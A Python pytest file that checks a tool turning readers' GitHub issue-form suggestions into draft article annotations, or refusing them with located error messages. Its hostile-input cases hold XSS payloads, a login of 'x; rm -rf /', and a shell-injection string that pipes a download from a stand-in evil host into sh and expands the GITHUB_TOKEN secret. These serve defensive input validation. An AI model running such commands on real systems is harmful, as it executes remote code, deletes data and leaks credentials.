"""A reader's suggestion (issue form body) becomes a draft annotation that passes `edition check`, or is refused
with a message naming the field, the line and the fix, and nothing is written."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from edition import annotations, scaffold, suggestion
from edition.article import load_article
from edition.suggestion import LABELS, Refused, convert
from test_annotations import PAYLOADS

ROOT = Path(__file__).resolve().parent.parent
ARTICLE = load_article(ROOT / "data" / "article.yml")
EXISTING, _ = annotations.collect(ROOT / "data" / "annotations", ARTICLE)
TODAY = "2026-12-02"


def free_passage(words: int = 6, repeated: bool = False) -> tuple[str, str, str]:
    """(prefix, exact, suffix) of a run of words that no annotation covers; with repeated, words that occur
    more than once in the article (so only their context anchors them)."""
    taken = {(a.block_key, i) for a in EXISTING for i in range(a.start - 1, a.start + len(a.exact) + 1)}
    for block in ARTICLE.paragraphs:
        for match in re.finditer(r"\S+", block.text):
            if repeated:
                exact, start = match.group(), match.start()
                if len(exact) < 4 or not exact.isalpha() or len(annotations.locate(ARTICLE, exact)) < 2:
                    continue
            else:
                run = re.match(r"(?:\S+\s+){%d}\S+" % (words - 1), block.text[match.start():])
                if not run:
                    continue
                exact, start = run.group(), match.start()
            if any((block.key, i) in taken for i in range(start, start + len(exact))):
                continue
            if repeated or len(annotations.locate(ARTICLE, exact)) == 1:
                return block.text[max(0, start - 25):start], exact, block.text[start + len(exact):start + len(exact) + 25]
    pytest.skip("no passage of the article is free of annotations")


PREFIX, EXACT, SUFFIX = free_passage()
FIELDS = {
    "exact": EXACT, "prefix": PREFIX.strip(), "suffix": SUFFIX.strip(), "place": "01-from-1947-to-putin, paragraph p2",
    "page": "https://example.org/book/01-from-1947-to-putin.html", "kind": "A statement of fact",
    "problem": "The date looks wrong to me: *other* sources give another year.\n\nSee [the record](https://example.org/record).",
    "sources": "- UN record, United Nations, 1947, https://example.org/record\n- A second source, https://example.org/two",
    "standard": "- [X] I have read the methodology page; I am asking about facts, not the article's politics.",
}


def body(**changes) -> str:
    """An issue body as GitHub writes it from the form: '### label', a blank line, the value or _No response_."""
    fields = {**FIELDS, **changes}
    return "\n\n".join(f"### {LABELS[k]}\n\n{fields[k] if fields[k] else '_No response_'}" for k in LABELS if fields.get(k) is not None) + "\n"


def lines_of(text: str, key: str) -> set[int]:
    """The lines of the field's headings and of the value under each; line 1 when the body lacks the field."""
    heads = [n for n, line in enumerate(text.split("\n"), start=1) if line == f"### {LABELS[key]}"]
    return {n + d for n in heads for d in (0, 2)} or {1}


def refused(text: str, **kwargs) -> list:
    with pytest.raises(Refused) as err:
        convert(text, kwargs.get("number", 7), kwargs.get("login", "a-reader"), TODAY, ARTICLE, EXISTING)
    return err.value.problems


def test_a_valid_suggestion_becomes_an_anchored_draft_with_the_readers_text_and_sources():
    result = convert(body(), 7, "a-reader", TODAY, ARTICLE, EXISTING)
    draft = result.draft
    assert draft.anchor.exact == EXACT and len(annotations.locate(ARTICLE, EXACT, draft.anchor.prefix, draft.anchor.suffix)) == 1
    assert draft.anchor.prefix == "" and draft.anchor.suffix == ""  # unique words need no context
    assert draft.id.endswith("-7") and re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", draft.id)
    assert draft.kind == "claim" and draft.verdict == "unsupported"
    assert "other* sources give another year" in draft.explanation and "https://example.org/two" in draft.explanation
    assert result.reader_sources == ("UN record, United Nations, 1947, https://example.org/record", "A second source, https://example.org/two")
    data = yaml.safe_load(scaffold.render(draft))
    assert data["quote"] == {"exact": EXACT} and "reviews" not in data  # no review yet: shown as awaiting review
    assert data["history"][0]["verdict"] == "unsupported" and "issue #7" in data["history"][0]["note"]


def test_an_opinion_gets_the_opinion_label_not_a_verdict():
    draft = convert(body(kind="A characterisation or opinion"), 8, "a-reader", TODAY, ARTICLE, EXISTING).draft
    assert (draft.kind, draft.verdict) == ("opinion", "opinion")


def test_repeated_words_get_the_shortest_context_that_anchors_them_and_trimmed_context_still_matches():
    prefix, exact, suffix = free_passage(repeated=True)
    draft = convert(body(exact=exact, prefix=prefix, suffix=suffix), 9, "a-reader", TODAY, ARTICLE, EXISTING).draft
    a = draft.anchor
    assert len(annotations.locate(ARTICLE, a.exact, a.prefix, a.suffix)) == 1
    assert a.prefix or a.suffix
    assert len(a.prefix) <= len(prefix) + 20 and len(a.suffix) <= len(suffix) + 20
    # GitHub trims the form's values: the space between context and words is gone, the anchor is the same.
    again = convert(body(exact=exact, prefix=prefix.rstrip(), suffix=suffix.lstrip()), 9, "a-reader", TODAY, ARTICLE, EXISTING).draft
    assert again.anchor == a


def hostile_cases():
    text = body()
    cases = [pytest.param(body(problem=f"Context. {p} More."), "problem", id=f"xss-problem-{i}") for i, p in enumerate(PAYLOADS)]
    cases += [
        pytest.param(body(sources="A source https://example.org\n<script>alert(1)</script>"), "sources", id="xss-sources"),
        pytest.param(body(sources="javascript:alert(1)"), "sources", id="javascript-source"),
        pytest.param(body(page="javascript:alert(1)"), "page", id="javascript-page"),
        pytest.param(body(exact="Israel has plenty of oil", prefix="", suffix=""), "exact", id="not-in-article"),
        pytest.param(body(exact="Putin", prefix="", suffix=""), "exact", id="ambiguous"),
        pytest.param(body(exact=EXISTING[0].exact, prefix="", suffix=""), "exact", id="overlaps-existing-note"),
        pytest.param(body(exact=None), "exact", id="missing-field"),
        pytest.param(body(problem=""), "problem", id="empty-required-field"),
        pytest.param(body(problem="Fine.\n\n### The words to check\n\nsomething else"), "exact", id="smuggled-heading"),
        pytest.param(body(kind="A rumour"), "kind", id="kind-not-offered"),
        pytest.param(body(standard="- [ ] I have read the methodology page."), "standard", id="box-not-ticked"),
        pytest.param(body(problem="Null\x00byte and \x1b[31m escape"), "problem", id="control-characters"),
        pytest.param(body(problem="x" * 6000), "problem", id="too-long"),
        pytest.param(text.replace("### ", "## "), "exact", id="not-the-form"),
        pytest.param("", "exact", id="empty-body"),
    ]
    injection = "$(curl -s https://evil.example/x | sh) `id` ${{ secrets.GITHUB_TOKEN }}"
    for key in LABELS:
        cases.append(pytest.param(body(**{key: injection}), key, id=f"shell-injection-{key}"))
    return cases


@pytest.mark.parametrize("text, field", hostile_cases())
def test_malformed_or_hostile_bodies_are_refused_with_a_located_message(text, field):
    problems = refused(text)
    ours = [p for p in problems if p.field == LABELS[field]]
    assert ours, f"no problem named the field {LABELS[field]!r}: {problems}"
    assert any(p.line in lines_of(text, field) and p.fix for p in ours), [str(p) for p in ours]
    assert all(str(p).startswith("issue #7:") for p in problems)


def test_a_bad_user_name_is_refused():
    assert any(p.field == "author" for p in refused(body(), login="x; rm -rf /"))


def test_the_comment_keeps_echoed_text_inside_its_code_fence():
    problems = refused(body(kind="````` @everyone <b>x</b>"))  # the message quotes the unknown choice
    assert any("`````" in str(p) for p in problems)
    comment = suggestion.refusal_comment(problems, 7)
    fence = re.search(r"^(`{4,})text$", comment, re.MULTILINE)
    assert fence, comment
    assert comment.count(fence.group(1)) == 2


def test_correction_url_is_the_correction_form_prefilled_with_the_id():
    url = suggestion.correction_url("https://github.com/o/r/", "ussr-vote-1947")
    assert url.startswith("https://github.com/o/r/issues/new?template=suggest-a-correction.yml&")
    assert url.endswith("&permalink=claim-ussr-vote-1947")


# The workflow's entry point, on a copy of the repository: it writes, checks, and leaves a PR body or a comment.

def run_main(repo: Path, text: str, tmp_path: Path, monkeypatch, number: int = 7) -> Path:
    monkeypatch.setenv("EDITION_ROOT", str(repo))
    event = tmp_path / f"event-{number}.json"
    event.write_text(json.dumps({"issue": {"number": number, "body": text, "user": {"login": "a-reader"}}}), encoding="utf-8")
    out = tmp_path / f"out-{number}"
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "github-output"))
    assert suggestion.main([str(event), "--outdir", str(out)]) == 0
    return out


def tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            digest.update(str(path.relative_to(folder)).encode() + path.read_bytes())
    return digest.hexdigest()


@pytest.mark.slow
def test_main_writes_a_draft_that_passes_edition_check_as_a_draft_and_is_refused_for_publication(repo_copy, tmp_path, monkeypatch):
    out = run_main(repo_copy, body(), tmp_path, monkeypatch)
    assert (out / "pull-request-body.md").is_file() and not (out / "comment.md").exists()
    assert "Closes #7" in (out / "pull-request-body.md").read_text()
    assert (tmp_path / "github-output").read_text() == "result=drafted\n"
    created = list((repo_copy / "data" / "annotations").glob("*-7.yml"))
    assert len(created) == 1
    def check(*flags):
        return subprocess.run([sys.executable, "-m", "edition.cli", "check", *flags], capture_output=True, text=True, cwd=repo_copy,
                              env={"EDITION_ROOT": str(repo_copy), "PATH": "/usr/bin:/bin"})

    draft = check("--drafts")
    assert draft.returncode == 0, draft.stderr
    # Not ready to publish until the editors have written it: the draft pull request fails `edition check`.
    final = check()
    assert final.returncode == 1
    assert f"data/annotations/{created[0].name}:" in final.stderr
    assert "the editors' verdict is still to come" in final.stderr and "needs at least one source" in final.stderr
    assert f"id: {created[0].stem}, kind: claim" in (repo_copy / "data" / "inventory.yml").read_text()


def test_main_writes_nothing_for_a_refused_suggestion(repo_copy, tmp_path, monkeypatch):
    before = tree_digest(repo_copy / "data")
    chosen = {"xss-problem-0", "javascript-page", "not-in-article", "missing-field", "shell-injection-problem", "overlaps-existing-note"}
    for number, param in enumerate((p for p in hostile_cases() if p.id in chosen), start=100):
        out = run_main(repo_copy, param.values[0], tmp_path, monkeypatch, number)
        assert (out / "comment.md").is_file() and not (out / "pull-request-body.md").exists(), param.id
        assert "no branch, file or pull request was created" in (out / "comment.md").read_text()
    assert tree_digest(repo_copy / "data") == before
    assert set((tmp_path / "github-output").read_text().split()) == {"result=refused"}


def test_every_repeated_word_anchors_at_its_own_place_with_the_context_given():
    # The scaffolding's shortest context must still point at the same occurrence, at any distance from the
    # paragraph's edges (a context longer than the text before or after the words included).
    checked = 0
    for block in ARTICLE.paragraphs:
        for match in re.finditer(r"[A-Za-z]{4,}", block.text):
            word, start = match.group(), match.start()
            if len(annotations.locate(ARTICLE, word)) < 2:
                continue
            where = scaffold.anchor(ARTICLE, word, block.text[:start], block.text[start + len(word):])
            assert (where.block_key, where.start) == (block.key, start), word
            assert len(annotations.locate(ARTICLE, word, where.prefix, where.suffix)) == 1
            checked += 1
    assert checked > 50
